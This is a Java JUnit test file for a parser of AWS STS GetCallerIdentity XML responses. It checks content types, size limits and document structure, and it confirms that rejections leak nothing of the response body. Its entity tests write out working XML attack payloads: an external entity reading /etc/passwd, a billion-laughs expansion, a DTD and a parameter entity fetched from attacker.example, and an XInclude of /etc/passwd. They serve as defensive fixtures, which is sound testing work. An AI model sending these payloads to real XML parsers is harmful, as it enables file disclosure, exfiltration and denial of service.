package io.github.kcawspack.awsidentity.sts;

import static io.github.kcawspack.awsidentity.sts.StsDocuments.ACCOUNT;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.NS;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.ROLE_ARN;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.ROLE_USER_ID;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.fields;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.identity;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.response;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.roleResponse;
import static io.github.kcawspack.awsidentity.sts.StsDocuments.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.kcawspack.awsidentity.sts.StsResponseException.Reason;
import java.nio.charset.StandardCharsets;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GetCallerIdentityResponseParserTest {

    private final GetCallerIdentityResponseParser parser = new GetCallerIdentityResponseParser(StsDocuments.MAX_BODY_BYTES);

    private CallerIdentity parse(String document) {
        return parser.parse(utf8(document), "text/xml");
    }

    /** Rejected with {@code reason}, and nothing of the body in the message. */
    private static void assertRejected(ThrowingCallable call, Reason reason) {
        assertThatThrownBy(call).isInstanceOfSatisfying(StsResponseException.class, e -> {
            assertThat(e.reason()).isEqualTo(reason);
            assertThat(e.getMessage()).doesNotContain("123456789012", "999999999999", "deployer", "session-1",
                    "AROA3XFRBF535PLBIFPI4", "AIDAJQABLZS4A3QDU576Q", "AKIAI44", "alice", "bob", "mallory", "passwd",
                    "lol", "sign in", "arn:");
            assertThat(e.getCause()).isNull();
        });
    }

    private void assertRejected(String document, Reason reason) {
        assertRejected(() -> parse(document), reason);
    }

    @Nested
    class GenuineAnswers {

        @Test
        void assumedRole() {
            assertThat(parse(roleResponse())).isEqualTo(new CallerIdentity(ROLE_ARN, ROLE_USER_ID, ACCOUNT));
        }

        @Test
        void iamUserWithPath() {
            CallerIdentity identity = parse(identity("arn:aws:iam::123456789012:user/division/ci/alice",
                    "AIDAJQABLZS4A3QDU576Q", ACCOUNT));
            assertThat(identity.arn()).isEqualTo("arn:aws:iam::123456789012:user/division/ci/alice");
            assertThat(identity.userId()).isEqualTo("AIDAJQABLZS4A3QDU576Q");
        }

        @Test
        void rootUser() {
            assertThat(parse(identity("arn:aws:iam::123456789012:root", ACCOUNT, ACCOUNT)))
                    .isEqualTo(new CallerIdentity("arn:aws:iam::123456789012:root", ACCOUNT, ACCOUNT));
        }

        @Test
        void otherPartition() {
            assertThat(parse(identity("arn:aws-cn:sts::123456789012:assumed-role/deployer/session-1", ROLE_USER_ID,
                    ACCOUNT)).arn()).startsWith("arn:aws-cn:");
        }

        @Test
        void compactWithXmlDeclarationNoMetadataAndCommentsBetweenElements() {
            String document = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!-- STS -->"
                    + "<GetCallerIdentityResponse xmlns=\"" + NS + "\"><GetCallerIdentityResult><!-- c -->"
                    + "<Arn>" + ROLE_ARN + "</Arn><UserId>" + ROLE_USER_ID + "</UserId><Account>" + ACCOUNT
                    + "</Account></GetCallerIdentityResult></GetCallerIdentityResponse>";
            assertThat(parse(document).arn()).isEqualTo(ROLE_ARN);
        }

        @Test
        void prefixedNamespaceAndFieldsInAnyOrder() {
            String document = "<s:GetCallerIdentityResponse xmlns:s=\"" + NS + "\"><s:GetCallerIdentityResult>"
                    + "<s:Account>" + ACCOUNT + "</s:Account><s:UserId>" + ROLE_USER_ID + "</s:UserId>"
                    + "<s:Arn>" + ROLE_ARN + "</s:Arn></s:GetCallerIdentityResult></s:GetCallerIdentityResponse>";
            assertThat(parse(document)).isEqualTo(new CallerIdentity(ROLE_ARN, ROLE_USER_ID, ACCOUNT));
        }

        @Test
        void cdataIsText() {
            assertThat(parse(response(fields("<![CDATA[" + ROLE_ARN + "]]>", ROLE_USER_ID, ACCOUNT))).arn())
                    .isEqualTo(ROLE_ARN);
        }

        @ParameterizedTest
        @ValueSource(strings = {"text/xml", "TEXT/XML", "text/xml; charset=UTF-8", "Text/Xml;charset=utf-8",
                "text/xml; charset=\"UTF-8\"", " text/xml ", "text/xml; charset=us-ascii"})
        void contentTypesOfXml(String contentType) {
            assertThat(parser.parse(utf8(roleResponse()), contentType).arn()).isEqualTo(ROLE_ARN);
        }
    }

    @Nested
    class NotAnStsDocument {

        @ParameterizedTest
        @ValueSource(strings = {"application/json", "text/html", "text/html; charset=utf-8", "application/xml",
                "text/plain", "text/xmlx", "text/xml+foo", "text/xml; charset=ISO-8859-1", "text/xml; charset=UTF-16",
                "", "*/*", "text/xml, text/html", "text/xml; bogus"})
        void otherContentTypesEvenWithAValidBody(String contentType) {
            assertRejected(() -> parser.parse(utf8(roleResponse()), contentType), Reason.CONTENT_TYPE_NOT_XML);
        }

        @Test
        void missingContentType() {
            assertRejected(() -> parser.parse(utf8(roleResponse()), null), Reason.CONTENT_TYPE_NOT_XML);
        }

        @Test
        void jsonBody() {
            String json = "{\"GetCallerIdentityResponse\":{\"GetCallerIdentityResult\":{\"Arn\":\"" + ROLE_ARN
                    + "\",\"UserId\":\"" + ROLE_USER_ID + "\",\"Account\":\"123456789012\"}}}";
            assertRejected(() -> parser.parse(utf8(json), "application/json"), Reason.CONTENT_TYPE_NOT_XML);
            assertRejected(() -> parser.parse(utf8(json), "text/xml"), Reason.MALFORMED_XML);
        }

        @Test
        void htmlBody() {
            String html = "<!DOCTYPE html><html><body><p>Please sign in</p><p>arn:aws:iam::123456789012:user/alice</p>"
                    + "</body></html>";
            assertRejected(() -> parser.parse(utf8(html), "text/html; charset=utf-8"), Reason.CONTENT_TYPE_NOT_XML);
            assertRejected(() -> parser.parse(utf8(html), "text/xml"), Reason.DOCTYPE);
            assertRejected(() -> parser.parse(utf8("<html><body>sign in</body></html>"), "text/xml"),
                    Reason.UNEXPECTED_ROOT);
        }

        @Test
        void emptyAndNullBodies() {
            assertRejected(() -> parser.parse(new byte[0], "text/xml"), Reason.MALFORMED_XML);
            assertRejected(() -> parser.parse(null, "text/xml"), Reason.MALFORMED_XML);
        }

        @Test
        void truncatedDocument() {
            String document = roleResponse();
            assertRejected(document.substring(0, document.length() / 2), Reason.MALFORMED_XML);
        }

        @Test
        void invalidUtf8() {
            byte[] body = utf8(roleResponse());
            byte[] broken = new byte[body.length + 1];
            System.arraycopy(body, 0, broken, 0, body.length);
            broken[body.length] = (byte) 0xC3;
            assertRejected(() -> parser.parse(broken, "text/xml"), Reason.NOT_UTF8);
        }

        @Test
        void utf16BodyIsNotReadAsUtf16() {
            byte[] body = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + roleResponse())
                    .getBytes(StandardCharsets.UTF_16);
            assertRejected(() -> parser.parse(body, "text/xml"), Reason.NOT_UTF8);
        }
    }

    @Nested
    class Size {

        @Test
        void bodyAtTheCapIsParsed() {
            String document = roleResponse();
            String padding = " ".repeat(StsDocuments.MAX_BODY_BYTES - utf8(document).length);
            assertThat(parse(document + padding).arn()).isEqualTo(ROLE_ARN);
        }

        @Test
        void oneByteOverTheCapIsRefusedBeforeParsing() {
            String document = roleResponse();
            String padding = " ".repeat(StsDocuments.MAX_BODY_BYTES - utf8(document).length + 1);
            assertRejected(document + padding, Reason.TOO_LARGE);
        }

        @Test
        void oversizeGarbageIsRefusedAsTooLargeNotMalformed() {
            assertRejected(() -> parser.parse(new byte[1024 * 1024], "text/xml"), Reason.TOO_LARGE);
        }
    }

    @Nested
    class DoctypesAndEntities {

        @Test
        void externalEntity() {
            String document = "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n"
                    + response(fields("&e;", ROLE_USER_ID, ACCOUNT));
            assertRejected(document, Reason.DOCTYPE);
        }

        @Test
        void internalEntityThatWouldRewriteTheArn() {
            String document = "<!DOCTYPE GetCallerIdentityResponse [<!ENTITY arn \"arn:aws:iam::999999999999:root\">]>"
                    + response(fields("&arn;", ROLE_USER_ID, ACCOUNT));
            assertRejected(document, Reason.DOCTYPE);
        }

        @Test
        void billionLaughs() {
            StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
            for (int i = 1; i <= 9; i++) {
                dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10))
                        .append("\">");
            }
            dtd.append("]>");
            assertRejected(dtd + response(fields("&lol9;", ROLE_USER_ID, ACCOUNT)), Reason.DOCTYPE);
        }

        @Test
        void externalDtdAndParameterEntity() {
            assertRejected("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">" + roleResponse(), Reason.DOCTYPE);
            assertRejected("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>" + roleResponse(),
                    Reason.DOCTYPE);
        }

        @Test
        void doctypeInLowerCaseOrAfterTheRootStillRefused() {
            assertRejected("<!doctype x>" + roleResponse(), Reason.DOCTYPE);
            assertRejected(roleResponse() + "<!DOCTYPE x>", Reason.DOCTYPE);
        }

        @Test
        void undeclaredEntityIsMalformed() {
            assertRejected(response(fields("&e;", ROLE_USER_ID, ACCOUNT)), Reason.MALFORMED_XML);
        }

        @Test
        void xincludeIsNotProcessed() {
            String document = response(fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT).replace("<Arn>" + ROLE_ARN + "</Arn>",
                    "<Arn><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" "
                            + "parse=\"text\"/></Arn>"));
            assertRejected(document, Reason.FIELD_NOT_TEXT);
        }
    }

    @Nested
    class Structure {

        @Test
        void wrongNamespace() {
            assertRejected(roleResponse().replace(NS, "https://sts.amazonaws.com/doc/2011-06-16/"),
                    Reason.UNEXPECTED_ROOT);
        }

        @Test
        void noNamespace() {
            assertRejected(roleResponse().replace(" xmlns=\"" + NS + "\"", ""), Reason.UNEXPECTED_ROOT);
        }

        @Test
        void otherRootElement() {
            assertRejected(roleResponse().replace("GetCallerIdentityResponse", "AssumeRoleResponse"),
                    Reason.UNEXPECTED_ROOT);
        }

        @Test
        void resultsInAnotherNamespaceAreNotResults() {
            String document = roleResponse().replace("<GetCallerIdentityResult>",
                    "<GetCallerIdentityResult xmlns=\"urn:other\">");
            assertRejected(document, Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void twoResults() {
            String document = roleResponse().replace("  <ResponseMetadata>",
                    "  <GetCallerIdentityResult>\n" + fields("arn:aws:iam::999999999999:user/mallory",
                            "AIDAMALLORYEXAMPLE", "999999999999") + "  </GetCallerIdentityResult>\n  <ResponseMetadata>");
            assertRejected(document, Reason.RESULT_COUNT);
        }

        @Test
        void noResult() {
            assertRejected("<GetCallerIdentityResponse xmlns=\"" + NS + "\"><ResponseMetadata/>"
                    + "</GetCallerIdentityResponse>", Reason.RESULT_COUNT);
        }

        @Test
        void resultNestedOneLevelDeeper() {
            assertRejected("<GetCallerIdentityResponse xmlns=\"" + NS + "\"><Wrapper><GetCallerIdentityResult>"
                    + fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT) + "</GetCallerIdentityResult></Wrapper>"
                    + "</GetCallerIdentityResponse>", Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void twoResponseMetadata() {
            assertRejected(roleResponse().replace("</GetCallerIdentityResponse>",
                    "<ResponseMetadata/></GetCallerIdentityResponse>"), Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void textBetweenElements() {
            assertRejected(roleResponse().replace("  <GetCallerIdentityResult>", "x<GetCallerIdentityResult>"),
                    Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void duplicateArn() {
            assertRejected(response(fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT)
                    + "    <Arn>arn:aws:iam::999999999999:root</Arn>\n"), Reason.FIELD_DUPLICATED);
        }

        @Test
        void duplicateAccount() {
            assertRejected(response(fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT) + "<Account>" + ACCOUNT + "</Account>"),
                    Reason.FIELD_DUPLICATED);
        }

        @ParameterizedTest
        @ValueSource(strings = {"Arn", "UserId", "Account"})
        void missingField(String field) {
            String withoutField = fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT)
                    .replaceAll("    <" + field + ">[^<]*</" + field + ">\n", "");
            assertThat(withoutField).doesNotContain("<" + field + ">");
            assertRejected(response(withoutField), Reason.FIELD_MISSING);
        }

        @Test
        void unexpectedFieldInResult() {
            assertRejected(response(fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT) + "<Admin>true</Admin>"),
                    Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void fieldInAnotherNamespace() {
            assertRejected(response(fields(ROLE_ARN, ROLE_USER_ID, ACCOUNT)
                    .replace("<Arn>", "<Arn xmlns=\"urn:other\">")), Reason.UNEXPECTED_CONTENT);
        }

        @Test
        void fieldWithChildElement() {
            assertRejected(response(fields("<Value>" + ROLE_ARN + "</Value>", ROLE_USER_ID, ACCOUNT)),
                    Reason.FIELD_NOT_TEXT);
        }

        @Test
        void fieldWithCommentSplicedIn() {
            assertRejected(response(fields("arn:aws:sts::123456789012:assumed-role/<!-- x -->deployer/session-1",
                    ROLE_USER_ID, ACCOUNT)), Reason.FIELD_NOT_TEXT);
        }

        @ParameterizedTest
        @ValueSource(strings = {"", " ", "\n   \t"})
        void blankFields(String blank) {
            assertRejected(identity(blank, ROLE_USER_ID, ACCOUNT), Reason.FIELD_INVALID);
            assertRejected(identity(ROLE_ARN, blank, ACCOUNT), Reason.FIELD_INVALID);
            assertRejected(identity(ROLE_ARN, ROLE_USER_ID, blank), Reason.FIELD_INVALID);
        }

        @Test
        void emptyElements() {
            assertRejected(response("<Arn/><UserId/><Account/>"), Reason.FIELD_INVALID);
        }

        @Test
        void paddedValue() {
            assertRejected(identity(" " + ROLE_ARN, ROLE_USER_ID, ACCOUNT), Reason.FIELD_INVALID);
            assertRejected(identity(ROLE_ARN, ROLE_USER_ID, ACCOUNT + "\n"), Reason.FIELD_INVALID);
        }

        @Test
        void overlongValue() {
            assertRejected(identity(ROLE_ARN + "x".repeat(3000), ROLE_USER_ID, ACCOUNT), Reason.FIELD_INVALID);
        }
    }

    @Nested
    class FieldsAsWritten {

        /**
         * Whether Arn, UserId and Account agree is judged once, by the verifier's canonicalisation
         * (AwsIdentityVerifierTest), not here: the parser hands on what STS wrote.
         */
        @Test
        void fieldsThatDisagreeAreReturnedVerbatimForTheVerifierToJudge() {
            assertThat(parse(identity(ROLE_ARN, ROLE_USER_ID, "999999999999")))
                    .isEqualTo(new CallerIdentity(ROLE_ARN, ROLE_USER_ID, "999999999999"));
        }
    }
}
